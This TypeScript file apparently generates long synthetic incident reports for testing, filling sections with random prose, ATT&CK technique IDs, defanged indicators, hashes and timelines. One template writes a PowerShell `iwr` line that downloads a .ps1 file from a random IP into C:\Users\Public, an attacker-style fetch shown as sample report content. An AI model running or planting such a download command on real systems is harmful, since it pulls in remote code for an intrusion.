import { SECTIONS } from './reports.js';
import { Random } from './random.js';

const WORDS = 'the attacker moved from one workstation to the file server and copied archives before an alert was raised by the team on duty which then cut the network off while nobody outside noticed'.split(' ');
const TECHNIQUES = ['T1566.001 Spearphishing Attachment', 'T1059 (Command and Scripting Interpreter)', 'T1486', 'T1021.002', 'T9999', '[T1078](https://attack.mitre.org/techniques/T1078/) Valid Accounts'];
const FIELDS = ['Owner', 'Source', 'Sector', 'Date/Time', 'Details', 'Vector', 'Geography', 'Severity', 'Discovery Date', 'Host', 'Evidence'];
const ANSWERS = ['Energy', 'N/A', 'Unknown (under investigation)', 'TBD', '[Details]', '2026-03-09 14:05 UTC', '', 'three servers, **all** of them', 'Helathcare'];

/** A report of about that many characters, as long ones are: all sections, each with headings of the author's own; the same for the same seed. */
export function bigReport(length: number, seed: number): string {
  const writer = new BigReport(seed);
  const share = length / SECTIONS.length;
  return [writer.head(), ...SECTIONS.map((title) => writer.section(title, share))].join('\n');
}

class BigReport {
  readonly #random: Random;
  #minute = 0;

  constructor(seed: number) {
    this.#random = new Random(seed);
  }

  head(): string {
    return '---\nreport: incident-report\ntlp: TLP:AMBER\nseverity: high\nauthors: [Ann, Bob]\n---\n\n# Incident Report: A long one\n';
  }

  section(title: string, length: number): string {
    let text = `## ${title}\n\n${this.#prose(30)}\n`;
    for (let number = 1; text.length < length; number += 1) {
      const blocks = Array.from({ length: 1 + this.#random.below(6) }, () => this.#block(title.startsWith('Timeline')));
      text += `\n${this.#random.pick(['###', '###', '####'])} ${this.#random.pick(['Host', 'Wave', 'Initial Access', 'Step', 'Detection & Response'])} ${number}\n\n${blocks.join('\n\n')}\n`;
    }
    return text;
  }

  #block(isTimeline: boolean): string {
    const many = (make: () => string, between = '\n'): string => Array.from({ length: 2 + this.#random.below(6) }, make).join(between);
    const kinds = [
      () => `${this.#prose(20 + this.#random.below(80))}.`,
      () => `${this.#prose(10)} (see [the page](https://${this.#host()}/a/${this.#random.below(99)})), ${this.#random.pick(TECHNIQUES)}, \`${this.#host().replaceAll('.', '[.]')}\` ${this.#prose(12)}.`,
      () => many(() => `- **${this.#random.pick(FIELDS)}:** ${this.#random.pick(ANSWERS)}`),
      () => many(() => `- ${this.#indicator()}: ${this.#prose(5)}`),
      () => many(() => this.#event()),
      () => `| Host | Hash | Note |\n| --- | --- | --- |\n${many(() => `| ${this.#random.pick(WORDS)}.exe | ${this.#hex(64)} | ${this.#prose(4)} |`)}`,
      () => `\`\`\`powershell\niwr http://${this.#address()}/${this.#random.pick(WORDS)}.ps1 -o C:\\Users\\Public\\${this.#random.pick(WORDS)}.log\n\`\`\``,
      () => `> ${this.#prose(25)}\n> ${this.#prose(9)}`,
      () => many(() => `1. ${this.#prose(14)} (owner: ${this.#random.pick(WORDS)}), due ${this.#day()}\n   - ${this.#prose(6)}`),
    ];
    return (isTimeline && this.#random.below(2) === 0 ? kinds[4]! : this.#random.pick(kinds))();
  }

  #prose(words: number): string {
    return Array.from({ length: words }, () => this.#random.pick(WORDS)).join(' ');
  }

  #event(): string {
    this.#minute += this.#random.below(30);
    return `- ${new Date(Date.UTC(2026, 2, 1) + this.#minute * 60_000).toISOString().slice(0, 16).replace('T', ' ')} UTC: ${this.#prose(9)}`;
  }

  #day(): string {
    return `2026-0${1 + this.#random.below(9)}-1${this.#random.below(10)}`;
  }

  #indicator(): string {
    return this.#random.pick([() => this.#address().replaceAll('.', '[.]'), () => `hxxps://${this.#host().replace('.', '[.]')}/${this.#random.pick(WORDS)}.php?id=${this.#random.below(9999)}`, () => this.#hex(64), () => this.#host(), () => this.#address()])();
  }

  #host(): string {
    return `${this.#random.pick(WORDS)}-${this.#random.below(9999)}.${this.#random.pick(['com', 'net', 'org', 'ru'])}`;
  }

  #address(): string {
    return [1 + this.#random.below(223), this.#random.below(256), this.#random.below(256), this.#random.below(256)].join('.');
  }

  #hex(digits: number): string {
    return Array.from({ length: digits }, () => this.#random.below(16).toString(16)).join('');
  }
}
